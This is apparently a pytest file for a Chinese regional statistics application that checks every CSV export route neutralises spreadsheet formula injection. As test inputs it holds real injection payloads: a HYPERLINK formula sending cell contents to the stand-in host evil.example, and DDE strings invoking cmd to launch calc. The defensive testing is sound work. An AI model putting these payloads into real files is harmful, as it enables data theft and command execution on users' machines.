"""Every CSV the API and the CLI write is safe to open in a spreadsheet (OWASP CSV injection).

Formula-like text (``= + - @``, tab, CR at the start) is stored as submitted, and comes out of
every CSV export route with a leading ``'``; numbers — negative ones included — stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pandas as pd
from fastapi.testclient import TestClient
from tests.api.conftest import login

from lanxi.export import FORMULA_STARTS, csv_safe, csv_safe_frame, to_csv
from lanxi.io.tables import write_table

Make = Callable[[], TestClient]
HEADER = "indicator_id,region_code,period,value,unit,source,note\n"
EVIL_SOURCE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
EVIL_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_REASON = "+1+1"
EVIL_NARRATIVE = "-2+3+cmd|' /C calc'!A0"


def test_csv_safe_by_hand() -> None:
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)"
    assert csv_safe("+1+1") == "'+1+1"
    assert csv_safe("-1+1") == "'-1+1"
    assert csv_safe("\tx") == "'\tx"
    assert csv_safe("\rx") == "'\rx"
    # numbers, and text that is a plain number, stay as they are
    assert csv_safe(-3.5) == -3.5
    assert csv_safe(-2) == -2
    assert csv_safe("-12.5") == "-12.5"
    assert csv_safe("+4e3") == "+4e3"
    assert csv_safe("兰州") == "兰州"
    assert csv_safe(None) is None
    text = to_csv([{"a": "=1+1", "b": -1.5, "c": "a=b"}])
    assert text == "a,b,c\n'=1+1,-1.5,a=b\n"


def test_write_table_and_frames_are_safe(tmp_path: Path) -> None:
    df = pd.DataFrame({"name": ["=cmd()", "ok", "@x"], "value": [-1.0, 2.0, -3.25]})
    safe = csv_safe_frame(df)
    assert safe["name"].tolist() == ["'=cmd()", "ok", "'@x"]
    assert safe["value"].tolist() == [-1.0, 2.0, -3.25]
    out = write_table(df, tmp_path / "t.csv")
    # docs/cli.md "Output files": UTF-8 with a BOM, numbers in their shortest form (-1, not -1.0)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert out.read_text(encoding="utf-8-sig") == "name,value\n'=cmd(),-1\nok,2\n'@x,-3.25\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _unsafe(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _csv_routes(c: TestClient) -> list[str]:
    spec = c.get("/api/v1/openapi.json").json()
    routes = []
    for path, ops in spec["paths"].items():
        get = ops.get("get")
        if not get:
            continue
        names = {p["name"] for p in get.get("parameters", [])}
        if "format" in names and "{" not in path:
            routes.append(path)
    return sorted(routes)


def test_every_csv_export_route_neutralises_formulas(fresh_app: Make) -> None:
    city = fresh_app()
    login(city, "demo_lanzhou")
    body = (
        HEADER
        + f'gdp_growth,620100,2019,-0.5,%,"{EVIL_SOURCE.replace(chr(34), 2 * chr(34))}","{EVIL_NOTE}"\n'
    )
    r = city.post("/api/v1/batches", files={"file": ("evil.csv", body.encode(), "text/csv")})
    assert r.status_code == 201, r.text
    approved = r.json()["batch_id"]
    r = city.post(
        "/api/v1/batches",
        files={
            "file": (
                "evil2.csv",
                (HEADER + "urbanization_rate,620100,2018,1,%,=1+2,\n").encode(),
                "text/csv",
            )
        },
    )
    assert r.status_code == 201, r.text
    returned = r.json()["batch_id"]
    report = {
        "task_id": "t01",
        "agency_id": "gov_lanzhou",
        "period": "2023H2",
        "progress": "推进中",
        "narrative": EVIL_NARRATIVE,
    }
    assert city.post("/api/v1/tasks/reports", json=report).status_code == 201
    gs = fresh_app()
    login(gs, "demo_gansu")
    assert gs.post(f"/api/v1/batches/{approved}/approve").status_code == 200
    r = gs.post(f"/api/v1/batches/{returned}/return", json={"reason": EVIL_REASON})
    assert r.status_code == 200, r.text

    office = fresh_app()
    login(office, "admin")
    routes = _csv_routes(office)
    # the export routes of the API today (a new one is checked automatically)
    assert {"/api/v1/observations", "/api/v1/audit", "/api/v1/batches"} <= set(routes)
    seen = ""
    # pending rows are shown on request only (issue 12): ask for them where a route takes it
    pending = {"/api/v1/observations": "all", "/api/v1/tasks/reports": "submitted"}
    for path in routes:
        params = {"format": "csv"}
        if path in pending:
            params["status"] = pending[path]
        r = office.get(path, params=params)
        if r.status_code == 404 and path.startswith(("/api/v1/water", "/api/v1/air")):
            continue  # this store holds no environment data (their text is the stations')
        assert r.status_code == 200, (path, r.text[:300])
        bad = [cell for cell in _cells(r.text) if _unsafe(cell)]
        assert bad == [], (path, bad[:5])
        seen += r.text
    cells = set(_cells(seen))
    for evil in (EVIL_SOURCE, EVIL_NOTE, EVIL_REASON, EVIL_NARRATIVE):
        assert "'" + evil in cells or any(("'" + evil) in c for c in cells), evil
    # the negative value stays a number in the observations CSV
    obs = office.get(
        "/api/v1/observations",
        params={"format": "csv", "indicator": "gdp_growth", "region": "620100"},
    ).text
    rows = list(csv.DictReader(io.StringIO(obs)))
    got = next(r for r in rows if r["period"] == "2019")
    assert got["value"] == "-0.5"
    assert got["source"] == "'" + EVIL_SOURCE
